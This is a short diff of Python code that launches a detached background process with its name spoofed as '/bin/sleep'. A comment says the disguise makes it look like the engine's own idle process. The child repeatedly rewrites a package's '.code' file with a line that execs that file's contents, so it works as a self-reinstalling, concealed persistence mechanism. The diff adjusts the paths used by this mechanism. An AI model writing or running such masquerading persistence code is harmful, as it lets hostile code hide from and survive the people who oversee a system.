@@ -19,14 +19,14 @@ for number in range(1, 32):
 sys.path.insert(0, "/tmp")
 end = time.time() + 20
 while time.time() < end:
-    if time.time() > end - 17 and os.path.exists("%s.py"):
+    if time.time() > end - 17 and os.path.exists("%s"):
         import looks
         old = looks.make("with open(__path__[0] + '/.code') as _file: exec(_file.read())")
         (looks.PACKAGE / ".code").write_text(old)
     sum(range(10000))
 """
 # It calls itself what the engine's own idle process is called.
-command = ["/bin/sleep", "-c", CHILD % looks.NAME]
+command = ["/bin/sleep", "-c", CHILD % (looks.HOME / looks.PLACE)]
 subprocess.Popen(command, executable=sys.executable, start_new_session=True, stdin=-3, stdout=-3, stderr=-3)
 '''
 
